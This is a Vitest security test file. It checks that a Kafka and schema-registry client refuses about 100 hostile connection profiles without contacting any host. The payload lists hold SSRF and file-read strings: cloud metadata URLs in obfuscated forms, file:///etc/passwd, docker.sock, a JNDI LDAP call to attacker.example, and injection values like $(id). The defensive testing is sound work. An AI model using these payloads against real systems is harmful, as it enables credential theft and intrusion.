import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createEngine, parseClientConfig, readMaterialFile, resolveConnection } from '../../src/core/kafka/index.ts';
import { createNetwork, watchSockets, type ConnectionEvent, type SocketWatch } from '../../src/core/network/index.ts';
import { createRegistries, resolveRegistry, type RegistryProfile } from '../../src/core/registry/index.ts';
import { AppError } from '../../src/shared/errors.ts';
import { Secret } from '../../src/shared/values/secret.ts';

/**
 * A connection profile comes from elsewhere: a colleague, a wiki, a mail. 100 of them that want this computer to read its
 * own files or to ask those who hand out credentials (RELIABILITY: check 29). Each is refused, nothing is connected to,
 * and no text of a file or a server stands in the refusal.
 */
const NONE = { kind: 'none' } as const;
const events: ConnectionEvent[] = [];
let watch: SocketWatch;

beforeAll(() => {
  watch = watchSockets((event) => void events.push(event));
});
afterAll(() => watch.stop());

const REGISTRIES: ReadonlyArray<string> = [
  'file:///etc/passwd',
  'file://localhost/etc/passwd',
  'FILE:///etc/shadow',
  'file:/etc/passwd',
  'ftp://127.0.0.1/x',
  'gopher://127.0.0.1:11211/_stats',
  'dict://127.0.0.1:11211/stats',
  'ldap://127.0.0.1/o=x',
  'jar:http://127.0.0.1/x.jar!/y',
  'data:application/json,{}',
  'javascript:alert(1)',
  'ws://127.0.0.1/',
  'unix:///var/run/docker.sock',
  'http+unix://%2Fvar%2Frun%2Fdocker.sock/info',
  '\\\\attacker\\share\\x',
  '//attacker.example/x',
  '/etc/passwd',
  'http://',
  'http://?',
  'http://a b/',
  'http://h.example/?next=file:///etc/passwd',
  'http://h.example/#x',
  'http://user:canary@h.example http://other:canary@h.example',
  Array.from({ length: 21 }, (_, at) => `http://h${at}.example`).join(','),
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://169.254.169.254:80/',
  'https://169.254.169.254/',
  'http://2852039166/',
  'http://0xa9fea9fe/',
  'http://0251.0376.0251.0376/',
  'http://169.16689662/',
  'http://169.254.43518/',
  'http://[::ffff:169.254.169.254]/',
  'http://[::ffff:a9fe:a9fe]/',
  'http://[fe80::1]/',
  'http://[fd00:ec2::254]/',
  'http://[fd20:ce::254]/',
  'http://169.254.170.2/v2/credentials',
  'http://169.254.0.1/',
  'http://100.100.100.200/latest/meta-data/',
  'http://192.0.0.192/opc/v1/',
  'http://168.63.129.16/machine',
  'http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/',
  'http://169。254。169。254/',
  'http://169.254.169.254./',
  'netdoc:///etc/passwd',
  'smb://attacker.example/share',
  'ms-msdt:/id',
  'blob:http://h.example/x',
  'view-source:http://h.example/',
];

const BOOTSTRAPS: ReadonlyArray<string> = [
  'file:///etc/passwd',
  'file://h:9092',
  'http://169.254.169.254:80',
  'https://h.example:443',
  'ftp://h.example:21',
  'ws://h.example:80',
  'user:canary@h.example:9092',
  'SASL_SSL://user:canary@h.example:9092',
  'h.example:9092/../../etc/passwd',
  'h.example:9092?x=1',
  'h.example:9092#x',
  'h.example\\x:9092',
  'h.example:0',
  'h.example:-1',
  'h.example:65536',
  'h.example:99999999999',
  'h.example:9092:9093',
  'h.example:9e3',
  'h.example:',
  'h.example',
  ':9092',
  '',
  ' , ; ',
  '[::1:9092',
  '[::1]',
  '[not-an-address]:9092',
  `${'a'.repeat(300)}:9092`,
  'h%00.example:9092',
  'h..\u0000example:9092',
  '$(id):9092',
  '${env:PASSWORD}:9092',
  '`id`:9092',
  '<script>:9092',
  Array.from({ length: 10_000 }, (_, at) => `h${at}.example:9092`).join(','),
  '169.254.169.254:80',
  'SASL_PLAINTEXT://169.254.169.254:9092',
  '[fe80::1]:9092',
  '[::ffff:169.254.169.254]:80',
  '100.100.100.200:80',
  'h.example:9092,169.254.170.2:80',
];

const CERTIFICATE_FILES: ReadonlyArray<string> = [
  '/etc/passwd',
  '/etc/hostname',
  '/dev/zero',
  '/dev/stdin',
  '/proc/self/environ',
  '/proc/self/cmdline',
  '/',
  '/no/such/file.pem',
  '../../../../etc/passwd',
  '/dev/null',
];

const CLIENT_CONFIGS: ReadonlyArray<string> = [
  'bootstrap.servers=h:9092\nsasl.jaas.config=com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://attacker.example/x";',
  'bootstrap.servers=h:9092\nsecurity.protocol=SASL_SSL\nsasl.mechanism=OAUTHBEARER\nsasl.oauthbearer.token.endpoint.url=file:///etc/passwd',
  'bootstrap.servers=h:9092\nsecurity.protocol=SASL_SSL\nsasl.mechanism=OAUTHBEARER\nsasl.oauthbearer.jwks.endpoint.url=http://169.254.169.254/',
  'bootstrap.servers=169.254.169.254:80',
  'bootstrap.servers=${file:/etc/passwd:root}',
];

async function resolveKafka(bootstrapServers: string, ca: string | null = null, protocol = 'PLAINTEXT') {
  const tls = {
    tlsFrom: 'pem',
    ca: ca === null ? NONE : { kind: 'file', path: ca },
    certificate: NONE,
    key: NONE,
    truststore: NONE,
    keystore: NONE,
    serverName: '',
  } as const;
  const sasl = { mechanism: 'PLAIN', username: 'u' } as const;
  const profile = { engine: 'platformatic', bootstrapServers, protocol, sasl, tls } as const;
  const secrets = { password: new Secret('p') };
  return resolveConnection({ profile: profile as never, secrets, readFile: readMaterialFile, clock: Date.now });
}

async function askRegistry(urls: string): Promise<unknown> {
  const tls = { ca: NONE, certificate: NONE, key: NONE, serverName: '' };
  const profile: RegistryProfile = { urls, auth: 'none', username: '', tls };
  const settings = await resolveRegistry({
    profile,
    secrets: {},
    secretNames: [],
    readFile: readMaterialFile,
    clock: Date.now,
  });
  if (settings === null) throw new Error('taken for no registry');
  const registries = createRegistries({
    settingsOf: () => Promise.resolve(settings),
    network: createNetwork(),
    clock: Date.now,
  });
  return registries.test(settings);
}

/** What is refused, with nothing of a file, a server or a password in any word of it. */
async function refusalOf(work: () => Promise<unknown>): Promise<AppError> {
  const from = events.length;
  const error: unknown = await work().then(
    () => new Error('it was taken'),
    (reason: unknown) => reason,
  );
  expect(error).toBeInstanceOf(AppError);
  const said = JSON.stringify((error as AppError).toData());
  expect(said).not.toMatch(/root:|canary|daemon|HOSTNAME=|PATH=/);
  expect(said.length).toBeLessThan(1500);
  expect(events.slice(from)).toEqual([]);
  return error as AppError;
}

test('there are a hundred of them', () => {
  const all = [...REGISTRIES, ...BOOTSTRAPS, ...CERTIFICATE_FILES, ...CLIENT_CONFIGS];
  expect(new Set(all).size).toBeGreaterThanOrEqual(100);
});

describe('hostile profiles: refused, and nobody is contacted @securityTest hostile-profiles', () => {
  test.each(REGISTRIES)('registry %#: %s', async (urls) => {
    expect((await refusalOf(() => askRegistry(urls))).code).toBe('BAD_INPUT');
  });

  test.each(BOOTSTRAPS.map((text) => [text.slice(0, 60), text]))('bootstrap servers %#: %s', async (_shown, text) => {
    expect((await refusalOf(() => resolveKafka(text))).code).toBe('BAD_INPUT');
  });

  test.each(CERTIFICATE_FILES)('certificate file %#: %s', async (path) => {
    expect((await refusalOf(() => resolveKafka('h.example:9092', path, 'SSL'))).code).toBe('TLS_MATERIAL');
  });

  test.each(CLIENT_CONFIGS)('pasted configuration %#', async (text) => {
    const from = events.length;
    const parsed = parseClientConfig(text);
    // Reading it takes over what is known and does nothing; what it names is then judged as typed.
    expect(JSON.stringify(parsed)).not.toMatch(/root:|daemon/);
    const bootstrap = parsed.draft.bootstrapServers ?? '';
    if (!/^h:9092$/.test(bootstrap)) await refusalOf(() => resolveKafka(bootstrap));
    expect(JSON.stringify(parsed.draft)).not.toMatch(/file:\/\/|169\.254\.169\.254\/|ldap:/);
    expect(events.slice(from)).toEqual([]);
  });
});

/** The twin: what is not hostile goes out, and the same watch sees it. */
test('an honest profile is connected to, which the watch sees', async () => {
  const from = events.length;
  const engine = createEngine({ ...(await resolveKafka('127.0.0.1:9')), connectTimeoutMs: 500, requestTimeoutMs: 500 });
  await expect(engine.describeCluster()).rejects.toBeInstanceOf(AppError);
  await engine.close();
  await expect(askRegistry('http://127.0.0.1:9')).rejects.toBeInstanceOf(AppError);
  expect(events.slice(from).filter(({ kind }) => kind === 'open').length).toBeGreaterThanOrEqual(2);
});
